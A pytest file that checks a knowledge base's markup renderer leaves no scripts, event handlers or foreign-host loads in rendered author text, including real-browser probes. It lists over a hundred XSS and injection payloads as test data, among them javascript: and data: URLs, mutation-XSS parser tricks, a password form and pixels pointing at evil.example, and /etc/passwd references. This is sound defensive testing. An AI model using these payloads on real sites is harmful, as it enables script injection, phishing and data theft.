"""Whatever an author writes: nothing runs, nothing is loaded, nothing of the page is taken."""

from __future__ import annotations

import re
import subprocess
import sys

import pytest

from postmortem_kb.markup import escape, plain, render, render_inline
from tests.helpers.safe_html import find_dangers

ATTACKS = """
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<script/x>alert(1)</script>
<<script>alert(1)//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src=x oNeRrOr="alert(1)">
<img/src=x/onerror=alert(1)>
<img src="x` `<script>alert(1)</script>"` `>
<img src=x:alert(1) onerror=eval(src)>
<img src=1 href=1 onerror="javascript:alert(1)">
<img ""><script>alert(1)</script>">
<img src=https://evil.example/pixel.gif>
<img src=//evil.example/pixel.gif>
<img srcset="https://evil.example/x 2x" src=ok.png>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src=//evil.example/x.swf>
<form action=//evil.example><input name=password><button>Sign in</button></form>
<input onfocus=alert(1) autofocus>
<button formaction=javascript:alert(1)>x</button>
<body onload=alert(1)>
<base href=//evil.example/>
<link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv=refresh content="0;url=//evil.example">
<style>@import '//evil.example/x.css';</style>
<div style="position:fixed;inset:0;background:url(//evil.example)">x</div>
<p style=background:red class="md-header" id=__search data-md-component=search>x</p>
<details open ontoggle=alert(1)><summary>x</summary></details>
<video src=x onerror=alert(1)></video>
<audio src=//evil.example/x autoplay></audio>
<marquee onstart=alert(1)>x</marquee>
<template><script>alert(1)</script></template>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt&colon;alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href=" \u2028javascript:alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="//evil.example">x</a>
<a href="/\\evil.example">x</a>
<a href="\\\\evil.example">x</a>
<a href="https:evil.example">x</a>
<a href=x target=_blank onclick=alert(1) name=location>x</a>
<a href="x" title="&quot; onmouseover=alert(1) x=&quot;">x</a>
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1))
[x](<java\tscript:alert(1)>)
[x](&#106;avascript:alert(1))
[x](javascript&colon;alert(1))
[x](data:text/html,<script>alert(1)</script>)
[x](vbscript:alert(1) "title")
[x](//evil.example/x)
[x](\\\\\\\\evil.example)
[x](file:///etc/passwd)
[x](x "\\" onmouseover=\\"alert(1)")
[x]: javascript:alert(1)
<javascript:alert(1)>
![x](javascript:alert(1))
![x](https://evil.example/pixel.gif)
![x](//evil.example/pixel.gif)
![x](data:image/svg+xml,<svg/onload=alert(1)>)
![" onerror=alert(1) x="](x.png)
![x](x.png "\\" onerror=alert(1) x=\\"")
[![x](https://evil.example/x.png)](javascript:alert(1))
`<script>alert(1)</script>`
```html\\n<script>alert(1)</script>\\n```
```"><script>alert(1)</script>\\nx\\n```
```x" onclick=alert(1)\\ny\\n```
# <img src=x onerror=alert(1)> title
# __search {#__config onclick=alert(1)}
## location\\n\\n## location\\n\\n<h2 id=location>x</h2>
| <img src=x onerror=alert(1)> |\\n|---|\\n| <script>alert(1)</script> |
- [x] <input type=text onfocus=alert(1)>
x[^"><script>alert(1)</script>]\\n\\n[^"><script>alert(1)</script>]: <svg onload=alert(1)>
> [!NOTE]\\n> <script>alert(1)</script>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=alert(1)&gt;">
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<table><td><textarea><style></textarea><img src=x onerror=alert(1)>
<xmp><p title="</xmp><svg/onload=alert(1)>">
<select><style></select><svg/onload=alert(1)></style>
<title><a href="</title><img src=x onerror=alert(1)>">
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[><img src=x onerror=alert(1)>]]>
<?php echo '<img src=x onerror=alert(1)>' ?>
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>
</p></div></article><div class="md-dialog">x
<a href="x"><details><a href="javascript:alert(1)"></details>
<b <script>alert(1)</script>0
<x onclick=alert(1) style=x>y</x>
\\u003cscript>alert(1)\\u003c/script>
&lt;script&gt;alert(1)&lt;/script&gt;
<img src=x onerror\x00=alert(1)>
<scr\x00ipt>alert(1)</scr\x00ipt>
--8<-- "/etc/passwd"
""".strip().split("\n")
ATTACKS = [attack.replace("\\n", "\n") for attack in ATTACKS]

every_attack = pytest.mark.parametrize("attack", ATTACKS)


def test_no_attack_was_lost():
    assert len(set(ATTACKS)) == 107


@every_attack
class TestNothingOfAnAttackIsLeft:
    def test_as_a_text(self, attack):
        assert find_dangers(render(attack, id_prefix="p-").html, "p-") == []

    def test_where_the_page_lets_every_link_through(self, attack):
        rendered = render(attack, id_prefix="p-", link=lambda address: address)
        assert find_dangers(rendered.html, "p-") == []

    @pytest.mark.parametrize("before", ["a ", "- ", "> ", "<details>\n\n", "**a ", "[a ", "<a x='"])
    def test_after_something_else(self, attack, before):
        assert find_dangers(render(before + attack, id_prefix="p-").html, "p-") == []

    def test_as_one_line(self, attack):
        assert find_dangers(render_inline(attack)) == []

    def test_escaped(self, attack):
        assert find_dangers(f'<p title="{escape(attack)}">{escape(attack)}</p>') == []

    def test_shown_as_it_was_written(self, attack):
        assert find_dangers(render(attack + "\n" * 20_000).html) == []


@pytest.mark.parametrize(
    "html",
    [
        "<script>",
        "<p onclick=x>",
        "<p style=x>",
        "<img src=https://a.example/x>",
        "<img src=//a.example/x>",
        "<a href=java&#9;script:x>",
        "<a href='/\\a.example'>",
        "<p class=md-header>",
        "<p id=__search>",
        "<p id=p-a><p id=p-a>",
        "<input type=text>",
        "<!-- x -->",
        "<!doctype html>",
        "<?x ?>",
    ],
)
def test_the_reader_of_these_tests_sees_a_danger(html):
    assert find_dangers(html, "p-") != []


def test_the_attack_is_in_the_text_for_search_only_as_words():
    assert plain('a <b title="secret">bold</b> <script>x</script>') == "a bold <script>x</script>"


@pytest.mark.parametrize(
    "html",
    [
        "<sup id=fn:1>x</sup>",
        "<ol><li id=x class=task-list-item>x</li></ol>",
        '<div class="admonition danger">x</div>',
        "<a class=headerlink id=x href=https://a.example>x</a>",
        "<span class=k>x</span>",
        "<b name=x is=y slot=z part=w data-x=v>x</b>",
    ],
)
def test_no_id_or_class_is_an_authors_not_even_one_of_ours(html):
    shown = render(html).html
    assert "x" in shown
    assert not re.search(r"<[^>]* (?:id|class|name|is|slot|part|data-x)=", shown)


def test_of_two_attributes_of_one_name_the_first_counts():
    shown = render("<img src=a.png src=b.png alt=c>", link=lambda address: address).html
    assert 'src="a.png"' in shown
    assert "b.png" not in shown


def test_an_address_that_the_page_answers_with_is_held_as_well():
    for answer in ("javascript:alert(1)", "//evil.example", "data:text/html,x", ""):
        rendered = render("[x](y) ![z](y)", link=lambda _, answer=answer: answer)
        assert rendered.html == "<p>x z</p>\n"


def test_an_image_never_comes_from_another_host_whatever_the_page_answers():
    rendered = render("![z](y)", link=lambda _: "https://evil.example/z.png")
    assert "<img" not in rendered.html
    assert ">z</a>" in rendered.html


def test_the_same_text_gives_the_same_bytes_in_every_process():
    script = (
        "import sys\n"
        "from postmortem_kb.markup import render\n"
        "sys.stdout.buffer.write(render(sys.stdin.read(), link=str).html.encode())"
    )
    text = "\n\n".join(ATTACKS)
    runs = {
        subprocess.run(
            [sys.executable, "-c", script],
            input=text.encode(),
            env={"PYTHONHASHSEED": seed, "PYTHONUTF8": "1"},
            capture_output=True,
            check=True,
        ).stdout
        for seed in ("1", "2", "3")
    }
    assert runs == {render(text, link=str).html.encode()}


PAGE = """<!doctype html><meta charset=utf-8><title>probe</title>
<script>window.ran = []; window.alert = x => ran.push(x); window.eval = alert;</script>
<main>%s</main>"""
READ_AGAIN = """
for (const part of document.querySelectorAll('section')) part.innerHTML = part.innerHTML;
for (const open of document.querySelectorAll('details')) open.open = true;
"""


@pytest.mark.browser
class TestInABrowser:
    @pytest.fixture
    def probe(self, browser, serve_folder, tmp_path):
        parts = (render(text, link=str, id_prefix=f"{at}-").html for at, text in enumerate(ATTACKS))
        sections = "".join(f"<section>{part}</section>" for part in parts)
        (tmp_path / "index.html").write_text(PAGE % sections, encoding="utf-8")
        self.home = serve_folder(tmp_path)
        browser.get(self.home)
        return browser

    def test_nothing_runs_even_when_the_page_is_read_twice(self, probe):
        probe.execute_script(READ_AGAIN)
        assert probe.execute_script("return [window.ran, document.title]") == [[], "probe"]

    def test_nothing_of_another_host_is_loaded(self, probe):
        probe.execute_script(READ_AGAIN)
        asked = probe.requests()
        assert asked
        assert [address for address in asked if not address.startswith(self.home)] == []

    def test_no_attack_closes_what_it_stands_in(self, probe):
        sections = probe.execute_script("return document.querySelectorAll('main > section').length")
        assert sections == len(ATTACKS)
